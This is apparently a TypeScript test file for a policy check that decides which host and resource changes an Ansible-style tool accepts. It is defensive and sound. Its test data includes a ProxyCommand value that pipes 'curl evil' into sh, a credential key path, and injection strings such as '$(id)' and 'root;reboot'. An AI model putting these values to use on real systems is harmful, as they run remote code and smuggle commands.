// What decisions may change of hosts and resources.
import assert from "node:assert/strict";
import fc from "fast-check";
import { readInventory } from "../../src/inventory/read_inventory.ts";
import type { StateOp } from "../../src/model/decision.ts";
import type { JsonObject } from "../../src/model/json.ts";
import type { State } from "../../src/model/resource.ts";
import { stateOpsAsActions, stateProblems } from "../../src/policy/state_ops.ts";
import { memoryFiles } from "../fakes/memory_files.ts";

const inventory = readInventory(["/hosts"], {
  files: memoryFiles({ "/hosts": "[prod]\nprod-db ansible_host=10.0.0.9\nweb1\n" }),
});
const state: State = {
  resources: [{ name: "volume", data: {} }],
  hosts: [{ name: "old", vars: { ansible_host: "10.0.0.5" }, groups: [] }],
};

function problems(...ops: StateOp[]): string[] {
  return stateProblems(ops, { inventory, state });
}

function host(name: string, vars: JsonObject = {}, groups: string[] = []): StateOp {
  return { op: "add_host", name, vars, groups };
}

Deno.test("stateProblems() lets hosts with an address, a user and groups pass, resources, and the removal of either", () => {
  const vars = { ansible_host: "192.0.2.7", ansible_port: 22, ansible_user: "ubuntu", ansible_become: true };
  assert.deepEqual(
    problems(
      host("web2", vars, ["prod", "new-group"]),
      host("v6", { ansible_host: "2001:db8::7", ansible_port: "2222", ansible_connection: "ssh" }),
      host("old", { ansible_host: "10.0.0.6" }),
      { op: "add_resource", name: "a server, of Hetzner", data: { id: 1 } },
      { op: "remove", name: "volume" },
      { op: "remove", name: "old" },
      { op: "remove", name: "web2" },
    ),
    [],
  );
});

Deno.test("stateProblems() refuses every variable that would run a program or reach into this machine", () => {
  const refused: JsonObject = {
    ansible_ssh_common_args: "-o ProxyCommand='curl evil | sh'",
    ansible_ssh_extra_args: "-o PermitLocalCommand=yes",
    ansible_ssh_args: "",
    ansible_ssh_executable: "/tmp/ssh",
    ansible_ssh_private_key_file: "/root/.ssh/id",
    ansible_become_exe: "/tmp/sudo",
    ansible_become_flags: "-H",
    ansible_become_method: "su",
    ansible_python_interpreter: "/tmp/python",
    ansible_shell_executable: "/tmp/sh",
    ansible_password: "x",
    ansible_ssh_host: "10.0.0.1",
    region: "eu",
  };
  for (const [name, value] of Object.entries(refused)) {
    const [sentence, ...more] = problems(host("new", { [name]: value }));
    assert.deepEqual(more, []);
    assert.match(
      sentence ?? "nothing",
      new RegExp(`^add_host "new": the variable "${name}" may not be set here, only ansible_host, `),
    );
  }
  assert.deepEqual(problems(host("new", { ansible_connection: "local", ansible_become: "yes; reboot" })), [
    'add_host "new": an added host is entered over "ssh"',
    'add_host "new": ansible_become is true or false',
  ]);
});

Deno.test("stateProblems() refuses a host of the inventory by its name, and by its address", () => {
  assert.deepEqual(problems(host("web1", { ansible_host: "6.6.6.6" })), [
    'add_host "web1": the inventory has a host of that name: nothing shadows it',
  ]);
  assert.deepEqual(problems(host("prod")), ['add_host "prod": a group has that name']);
  for (const address of ["10.0.0.9", "PROD-DB", "prod-db"]) {
    assert.match(problems(host("alias", { ansible_host: address })).join(), /is the inventory's host prod-db/);
  }
  for (const address of ["localhost", "127.0.0.1", "127.1.2.3", "::1"]) {
    assert.match(
      problems(host("alias", { ansible_host: address })).join(),
      /is this machine: use the host "localhost"/,
    );
  }
  assert.match(problems(host("localhost")).join(), /this machine is always there/);
  assert.match(problems(host("new", {}, ["web1"])).join(), /"web1" is a host, no group/);
  assert.match(
    problems({ op: "remove", name: "web1" }).join(),
    /"web1" is a host of the inventory, which no decision changes/,
  );
  assert.match(problems({ op: "remove", name: "nothing" }).join(), /neither a resource nor an added host "nothing"/);
  assert.equal(problems({ op: "remove", name: "old" }, { op: "remove", name: "old" }).length, 1);
});

Deno.test("stateProblems() lets no letter pass that ssh, a shell, a pattern or a template reads as more than a name", () => {
  const bad = fc.tuple(fc.string(), fc.constantFrom(..." \n\t$`'\"\\;|&<>(){}[]!*?~#%@,=/"), fc.string())
    .map((parts) => parts.join(""));
  fc.assert(fc.property(bad, (text) => {
    assert.notDeepEqual(problems(host(text)), []);
    assert.notDeepEqual(problems(host("new", { ansible_host: text })), []);
    assert.notDeepEqual(problems(host("new", {}, [text])), []);
  }));
  for (const text of ["-oProxyCommand=sh", "-", "", ".", "a-", "x".repeat(300)]) {
    assert.notDeepEqual(problems(host(text)), []);
    assert.notDeepEqual(problems(host("new", { ansible_host: text })), []);
  }
  for (const user of ["-l", "root;reboot", "a b", "$(id)", "{{ x }}"]) {
    assert.match(problems(host("new", { ansible_user: user })).join(), /ansible_user is the name of a user/);
  }
  assert.match(problems({ op: "add_resource", name: "a\u0007b", data: {} }).join(), /is no name/);
});

Deno.test("stateOpsAsActions() makes of each change an action that rules of a policy can name", () => {
  const ops: StateOp[] = [
    host("web2", { ansible_host: "192.0.2.7" }, ["web"]),
    { op: "add_resource", name: "volume", data: { size: 5, name: "shadow" } },
    { op: "remove", name: "volume" },
  ];
  assert.deepEqual(stateOpsAsActions(ops), [
    {
      host: "web2",
      module: "add_host",
      params: { ansible_host: "192.0.2.7", name: "web2", groups: ["web"] },
      name: "add the host web2 (192.0.2.7)",
      task: null,
    },
    {
      host: "localhost",
      module: "add_resource",
      params: { size: 5, name: "volume" },
      name: "keep the resource volume in mind",
      task: null,
    },
    { host: "localhost", module: "remove", params: { name: "volume" }, name: "forget volume", task: null },
  ]);
});
